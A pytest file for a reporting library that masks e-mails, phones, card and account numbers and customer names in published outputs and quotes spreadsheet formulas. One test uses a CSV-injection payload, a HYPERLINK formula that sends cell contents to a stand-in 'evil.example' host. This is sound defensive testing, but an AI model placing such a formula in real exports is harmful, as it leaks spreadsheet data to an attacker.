"""Personal data and formulas never reach a published file or page (issue 14, items 16, 18, 20).

Known answers on hand-made strings: what must be masked, and what must not (dates,
amounts, order numbers, times); then the places every report publishes through
(``outputs.save``, ``plots.table_html``) and the tables that showed ``nan`` or 0 for an
unknown value.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from cxlib import plots
from cxlib.io import outputs
from cxlib.io.privacy import (
    customer_names,
    mask_comments,
    mask_contacts,
    mask_names,
    neutralise_formula,
    publishable,
)
from cxlib.wording import UNKNOWN

MASKED = [
    ("Mail me at anna.berg@example.com.", "Mail me at [e-mail]."),
    ("a.b-c+cx@mail.co.uk", "[e-mail]"),
    ("Call +49 170 1234567 please", "Call [phone] please"),
    ("0049 170 1234567", "[phone]"),
    ("call 0170 1234567 now", "call [phone] now"),
    ("ring 01701234567", "ring [phone]"),
    ("(555) 123-4567", "[phone]"),
    ("555-123-4567", "[phone]"),
    ("+1 (555) 123-4567", "[phone]"),
    ("06 12 34 56 78", "[phone]"),
    ("020 7946 0958", "[phone]"),
    ("Phone number: 0170 1234567", "Phone number: [phone]"),
    ("card 4111 1111 1111 1111 charged", "card [card] charged"),
    ("5500-0000-0000-0004", "[card]"),
    ("IBAN DE89 3704 0044 0532 0130 00", "IBAN [account]"),
    ("GB82WEST12345698765432", "[account]"),
    ("account no. 12345678", "account no. [account]"),
    ("Konto 1234 5678 90", "Konto [account]"),
    ("track https://shop.example/t?order=1&email=a@b.de.", "track [link]."),
    ("reset at http://x.example/reset/a1b2c3d4e5f6g7h8i9", "reset at [link]"),
]
NOT_MASKED = [
    "on 2024-10-01",
    "01.02.2024 and 12/31/2024",
    "2024-10-01 14:30:00",
    "2024-10-01T14:30:00+01:00",
    "at 14:30",
    "1,234.56 EUR",
    "EUR 1.234.567",
    "1 234 567 €",
    "order 12345678",
    "order #0170123456",
    "invoice 555-123-4567",
    "ticket 123456789",
    "ORD-2024-000123",
    "from 2019-2020",
    "scores 9 10 10 9 8",
    "4111 1111 1111 1112",  # fails the Luhn check: not a card
    "1234567890123456",
    "12345678",
    "customer 0000012345",
    "https://shop.example/help",
    "www.shop.example",
    "192.168.1.1",
    "waited 40 minutes, 3 times in 2 weeks",
    "NPS -27.9 (95% CI -28.8 to -27.0, n=28,803)",
]


@pytest.mark.parametrize(("text", "expected"), MASKED)
def test_contact_details_are_masked(text: str, expected: str) -> None:
    assert mask_contacts(text) == expected


@pytest.mark.parametrize("text", NOT_MASKED)
def test_dates_amounts_order_numbers_and_times_are_not_masked(text: str) -> None:
    assert mask_contacts(text) == text


def test_non_strings_pass_through() -> None:
    assert mask_contacts(None) is None and mask_contacts(12345678901) == 12345678901


def test_a_customers_own_name_is_masked_in_their_own_comment() -> None:
    customers = pd.DataFrame(
        {"customer_id": ["1", "2"], "First_Name": ["Anna", "Jonas"], "last_name": ["Berg", ""]}
    )
    names = customer_names(customers)
    assert names.to_dict() == {"1": ["Anna", "Berg", "Anna Berg"], "2": ["Jonas"]}
    comments = pd.Series(["Regards, Anna Berg (anna@x.de)", "Jonas here, ask Anna", None])
    got = mask_comments(comments, pd.Series(["1", "2", "1"]), names)
    # the other customer's name ("Anna" in Jonas's comment) is not known as a name there
    assert got.tolist()[:2] == ["Regards, [name] ([e-mail])", "[name] here, ask Anna"]
    assert mask_names("BERG wrote this", ["Berg"]) == "[name] wrote this"
    assert customer_names(customers[["customer_id"]]) is None


def test_formulas_are_neutralised_numbers_are_not() -> None:
    assert neutralise_formula('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    for cell in ("+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_formula(cell) == "'" + cell
    assert neutralise_formula(-5.0) == -5.0 and neutralise_formula("a=b") == "a=b"


def test_save_masks_and_neutralises_every_csv_cell(tmp_path: Path) -> None:
    """The CSV a report publishes: e-mails masked, formulas quoted, numbers and ids kept."""
    frame = pd.DataFrame(
        {
            "customer_id": ["0170123456789", "@evil"],
            "group": ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "plain"],
            "examples": [["Mail a@b.de"], ["Call +49 170 1234567"]],
            "comment": pd.Series(["write to a@b.de", "-meh"], dtype="string"),
            "plan": pd.Categorical(["+basic", "premium"]),
            "diff": [-25.0, 3.5],
        }
    )
    path = outputs.save(tmp_path, "out.csv", frame)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["customer_id"].tolist() == ["0170123456789", "'@evil"]  # ids never masked
    assert back["group"].iloc[0] == '\'=HYPERLINK("[link]"&A1,"click")'  # and its link masked
    assert back["examples"].tolist() == ["['Mail [e-mail]']", "['Call [phone]']"]
    assert back["comment"].tolist() == ["write to [e-mail]", "'-meh"]
    assert back["plan"].tolist() == ["'+basic", "premium"]
    assert back["diff"].tolist() == ["-25.0", "3.5"]  # a negative number stays a number
    assert frame["group"].iloc[0].startswith("=")  # the caller's frame is not changed


def test_save_masks_json_strings(tmp_path: Path) -> None:
    path = outputs.save(tmp_path, "out.json", {"findings": ["Mail x@y.com"], "n": -3})
    assert json.loads(path.read_text()) == {"findings": ["Mail [e-mail]"], "n": -3}


def test_publishable_leaves_a_clean_frame_alone() -> None:
    frame = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    assert publishable(frame) is frame


def test_tables_on_pages_show_unknown_as_n_a_and_mask_contacts() -> None:
    frame = pd.DataFrame(
        {
            "customer_id": ["0170123456789"],
            "text": ["nan"],
            "none": [None],
            "number": [np.nan],
            "note": ["call 0170 1234567"],
        }
    )
    shown = plots.shown(frame)
    assert shown.iloc[0].tolist()[:2] == ["0170123456789", UNKNOWN]
    assert shown["note"].iloc[0] == "call [phone]"
    html = plots.table_html(frame)
    assert html.count(f"<td>{UNKNOWN}</td>") == 3 and "nan" not in html and "None" not in html
    assert "[e-mail]" in plots.findings_html(["Write to a@b.de"])


def test_revenue_at_risk_per_group_is_unknown_not_zero_without_revenue() -> None:
    """Issue 14 item 20: 'revenue at risk 0' per persona where monthly revenue is unknown."""
    from cxlib.churn.figures import group_table
    from cxlib.churn.value import churn_by_group

    customers = pd.DataFrame(
        {"customer_id": list("abcdef"), "churned": [True, False, False, True, False, False]}
    )
    labels = pd.Series(["P1", "P1", "P1", "P2", "P2", "P3"], index=list("abcdef"))
    risk = pd.DataFrame(
        {
            "customer_id": list("bcef"),
            "churn_probability": [0.5, 0.2, 0.4, 0.1],
            "monthly_revenue": [np.nan, np.nan, np.nan, 10.0],
            "revenue_at_risk": [np.nan, np.nan, np.nan, 12.0],
        }
    )
    groups = churn_by_group(customers, labels, risk, by="persona").set_index("persona")
    assert groups.loc["P3", "revenue_at_risk"] == 12.0
    assert np.isnan(groups.loc["P1", "revenue_at_risk"])
    table = group_table(groups.reset_index(), "persona").set_index("persona")
    assert table.loc["P1", "revenue at risk"] == UNKNOWN
    assert table.loc["P1", "share of risk"] == UNKNOWN
    assert "nan" not in " ".join(table.astype(str).to_numpy().ravel())


def test_persona_table_shows_unknown_as_n_a() -> None:
    from cxlib.personas.findings import profile_table

    profile = {
        "persona_id": 1, "persona_name": "Lapsed", "persona_alias": "Frugal Fiona", "n": 10,
        "share": 1.0, "revenue_share": np.nan, "preferred_channel": np.nan,
    }  # fmt: skip
    for m in ("nps", "csat", "ces_mean", "churn_rate"):
        profile.update({m: np.nan, f"{m}_ci_low": np.nan, f"{m}_ci_high": np.nan})
    row = profile_table(pd.DataFrame([profile])).iloc[0]
    assert row["revenue share"] == row["preferred channel"] == row["age (middle 50%)"] == UNKNOWN
    assert row["NPS (95% CI)"] == UNKNOWN
